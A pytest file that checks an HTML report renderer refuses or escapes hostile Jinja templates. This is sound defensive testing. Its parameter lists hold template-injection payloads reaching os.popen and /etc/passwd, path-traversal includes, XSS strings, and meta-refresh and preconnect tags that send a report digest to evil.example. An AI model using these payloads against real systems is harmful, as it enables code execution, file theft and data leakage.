"""A template of somebody else's reaches nothing but the report, and prints no text as markup."""

import re
from dataclasses import replace
from pathlib import Path

import html5lib
import pytest
from attacks import replaced
from reports import full

from labelaudit.errors import InputError
from labelaudit.render.html import to_html
from labelaudit.report import Report

SECRET = "what another file says"  # noqa: S105 - no password

REFUSED = (
    "{{ ''.__class__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ report.__class__.__init__.__globals__ }}",
    "{{ report.dataset['__class__'] }}",
    "{{ report|attr('__class__') }}",
    "{{ [report]|map('attr', '__class__')|list }}",
    "{{ '{0.__class__}'.format(report) }}",
    "{{ '{0.__class__}'.format_map({'0': report}) }}",
    "{{ ('%s' ~ '{0.__init__.__globals__}').format(report) }}",
    "{{ counted.__globals__ }}",
    "{{ counted.__code__.co_consts }}",
    "{{ self.__init__.__globals__ }}",
    "{{ self._TemplateReference__context }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'] }}",
    "{{ joiner }}",
    "{{ namespace.__init__.__globals__ }}",
    "{{ config }}",
    "{{ open('/etc/passwd').read() }}",
    "{{ report.dataset.statements.append(1) }}",
    "{{ report.run.packages.clear() }}",
    "{{ report.run.packages.update(a=1) }}",
    "{{ range(10 ** 9)|list }}",
    "{{ report.dataset.name|safe }}",
    "{{ 'https://evil.example'|urlize }}",
    "{{ {'onload': 'alert(1)'}|xmlattr }}",
    "{% include '/etc/passwd' %}",
    "{% include '../secret.txt' %}",
    "{% include 'secret.txt' %}",
    "{% include 'measures/../../secret.txt' %}",
    "{% import 'os' as os %}",
    "{% extends '../secret.txt' %}",
    "{% autoescape false %}{{ report.dataset.name }}{% endautoescape %}",
    "{% do report.run.packages.clear() %}",
)
LEADING = (
    '<meta http-equiv="refresh" content="0;url=https://evil.example/{{ report.dataset.digest }}">',
    '<META content="0;url=//evil.example?>" HTTP-EQUIV=" re&#102;resh">',
    "<svg><me{{ 'ta' }}\nhttp-equiv=refresh content='0;//evil.example'></svg>",
    "<link rel=preconnect href='https://{{ report.dataset.digest[:12] }}.evil.example'>",
    "<meta" + 5000 * " " + "http-equiv=refresh content='0;//evil.example'>",
)
ESCAPED = (
    "{{ report.dataset.name }}",
    "{{ report.dataset.name|forceescape }}",
    "{{ report.dataset.name|replace('x', '<b>') }}",
    "{{ report.dataset.name|indent }}",
    "{{ report.dataset.name|tojson }}",
    "{{ [report.dataset.name, '<b>']|join('<i>') }}",
    "{{ '<i>' ~ report.dataset.name }}",
    "{{ '%s'|format(report.dataset.name) }}",
    "{{ report.dataset.name|truncate(30) }}",
    "{{ report.dataset.name|wordwrap(3) }}",
    "{% set name %}{{ report.dataset.name }}{% endset %}{{ name }}",
    "{% filter trim %}{{ report.dataset.name }}{% endfilter %}",
    "{% macro shown(n) %}{{ n }}{% endmacro %}{{ shown(report.dataset.name) }}",
)
ATTACK = "<img src=x onerror=alert(1)><script>alert(2)</script>"


def small() -> Report:
    """Return a report of two measures."""
    report = full()
    measures = [each for each in report.measures if each.name in {"integrity", "label_sharpness"}]
    return replace(report, measures=tuple(measures))


def folder_with(tmp_path: Path, source: str) -> Path:
    """Return a folder with a template of one measure, and another file beside it."""
    folder = tmp_path / "templates"
    (folder / "measures").mkdir(parents=True)
    (tmp_path / "secret.txt").write_text(SECRET, encoding="utf-8")
    (folder / "measures" / "integrity.html").write_text(source, encoding="utf-8")
    return folder


@pytest.mark.parametrize("source", REFUSED)
def test_what_a_template_may_not_have_is_refused(tmp_path: Path, source: str) -> None:
    folder = folder_with(tmp_path, source)
    with pytest.raises(InputError) as caught:
        to_html(small(), folder)
    assert "integrity.html" in str(caught.value)
    assert SECRET not in str(caught.value)


@pytest.mark.parametrize("source", LEADING)
def test_a_page_that_would_lead_elsewhere_by_itself_is_not_made(
    tmp_path: Path, source: str
) -> None:
    with pytest.raises(InputError, match="leads elsewhere unasked"):
        to_html(small(), folder_with(tmp_path, source))


@pytest.mark.parametrize("source", LEADING)
def test_a_name_like_a_tag_that_leads_elsewhere_is_a_name(source: str) -> None:
    assert "&lt;" in to_html(replace(small(), dataset=replace(small().dataset, name=source)))


@pytest.mark.parametrize(
    "source",
    [
        "{{ [report]|map(attribute='__class__')|list }}",
        "{{ [report]|groupby('__class__')|map('first')|list }}",
        "{{ [report.dataset]|sum(attribute='__class__', start='')|string if false }}",
    ],
)
def test_filters_that_take_names_of_attributes_find_none(tmp_path: Path, source: str) -> None:
    page = to_html(small(), folder_with(tmp_path, f"<p id='found'>{source}</p>"))
    [found] = re.findall("<p id='found'>(.*?)</p>", page, re.DOTALL)
    assert "class" not in found
    assert "Report" not in found


@pytest.mark.parametrize("linked", ["label.js", "measures/leakage.html", "_notes.html"])
def test_a_file_that_leads_out_of_the_folder_is_refused(tmp_path: Path, linked: str) -> None:
    folder = folder_with(tmp_path, "{% include '_notes.html' %}")
    (folder / linked).symlink_to(tmp_path / "secret.txt")
    with pytest.raises(InputError, match=Path(linked).name) as caught:
        to_html(small(), folder)
    assert SECRET not in str(caught.value)


@pytest.mark.parametrize("source", ESCAPED)
def test_no_way_to_print_a_text_makes_it_markup(tmp_path: Path, source: str) -> None:
    page = to_html(replaced(small(), ATTACK), folder_with(tmp_path, f"<p>{source}</p>"))
    nodes = list(html5lib.parse(page, namespaceHTMLElements=False).iter())
    assert not [node for node in nodes if "onerror" in node.attrib]
    assert len([node for node in nodes if node.tag == "script"]) == 1


def test_a_template_cannot_change_what_others_print(tmp_path: Path) -> None:
    source = "{% set report = 1 %}{% set counted = 2 %}{% set measure = 3 %}<p>done</p>"
    page = to_html(small(), folder_with(tmp_path, source))
    assert "<p>done</p>" in page
    assert page.count("Label sharpness") > 2


def test_markup_of_a_template_still_meets_the_policy(tmp_path: Path) -> None:
    page = to_html(small(), folder_with(tmp_path, "<script>alert(1)</script>"))
    plain = to_html(small())
    start, end = "Content-Security-Policy", ">"
    policies = [text.partition(start)[2].partition(end)[0] for text in (page, plain)]
    assert policies[0] == policies[1]
    assert "unsafe-inline" not in policies[0]
